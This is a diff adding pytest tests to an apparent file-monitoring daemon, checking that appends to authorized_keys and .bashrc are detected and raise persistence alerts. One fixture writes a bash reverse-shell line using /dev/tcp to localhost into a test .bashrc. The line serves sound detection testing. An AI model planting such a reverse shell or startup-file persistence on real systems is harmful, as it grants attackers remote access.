@@ -125,6 +125,61 @@ def test_write_open_watched_and_unwatched(vigild, tmp):
     assert not vigild.find_all(mine("file_open_write", outside))
 
 
+def test_write_to_watched_names_anywhere(vigild, tmp):
+    """Appending a key to an existing authorized_keys or a line to a
+    .bashrc in a home directory no watched prefix covers is reported (the
+    commonest persistence), and raises the rules written for it; another
+    file there is not; a name taken off the list at run time is not."""
+    home = os.path.join(tmp, "home", "alice")
+    os.makedirs(os.path.join(home, ".ssh"))
+    keys, rc, notes = (os.path.join(home, ".ssh", "authorized_keys"), os.path.join(home, ".bashrc"),
+                       os.path.join(home, "notes.txt"))
+    for p in (keys, rc, notes):
+        with open(p, "w") as f:
+            f.write("# existing\n")
+    sync(vigild, tmp)
+    for p, line in ((keys, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE vigil-test\n"),
+                    (rc, "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1 &\n"), (notes, "x\n")):
+        with open(p, "a") as f:
+            f.write(line)
+    for p in (keys, rc):
+        ev = vigild.wait_for(mine("file_open_write", p), timeout=T, what="file_open_write of " + p)
+        assert get(ev, "vigil.file.truncated") is False
+        assert get(ev, "file.inode") == os.stat(p).st_ino
+    sync(vigild, tmp)
+    assert not vigild.find_all(mine("file_open_write", notes))
+
+    assert "watch-name .bashrc" in vigild.vigil("filter", "list").stdout
+    vigild.vigil("filter", "del", "watch-name", ".bashrc")
+    try:
+        with open(rc, "a") as f:
+            f.write("again\n")
+        sync(vigild, tmp)
+        assert len(vigild.find_all(mine("file_open_write", rc))) == 1
+    finally:
+        vigild.vigil("filter", "add", "watch-name", ".bashrc")
+    r = vigild.vigil("filter", "add", "watch-name", "a/b", check=False)
+    assert r.returncode != 0 and "no '/'" in r.stdout + r.stderr
+
+
+def test_persistence_appends_alert(start_vigild, tmp):
+    """The same appends, end to end: the shipped rules raise their alerts."""
+    home = os.path.join(tmp, "home", "bob")
+    os.makedirs(os.path.join(home, ".ssh"))
+    keys, rc = os.path.join(home, ".ssh", "authorized_keys"), os.path.join(home, ".bashrc")
+    for p in (keys, rc):
+        with open(p, "w") as f:
+            f.write("# existing\n")
+    d = start_vigild(extra_args=["--alerts-out", os.path.join(tmp, "alerts.jsonl")])
+    d.alerts_path = os.path.join(tmp, "alerts.jsonl")
+    for p in (keys, rc):
+        with open(p, "a") as f:
+            f.write("appended\n")
+    for title, p in (("SSH authorized_keys written", keys), ("Shell startup file written", rc)):
+        d.wait_for_alert(lambda a: a["rule"]["title"] == title
+                         and any(get(e, "file.path") == p for e in a["events"]), timeout=T, what=title)
+
+
 def _openat2(path, flags, mode=0o600):
     """openat2(AT_FDCWD, path, {flags, mode}): glibc has no wrapper."""
     libc = ctypes.CDLL(None, use_errno=True)
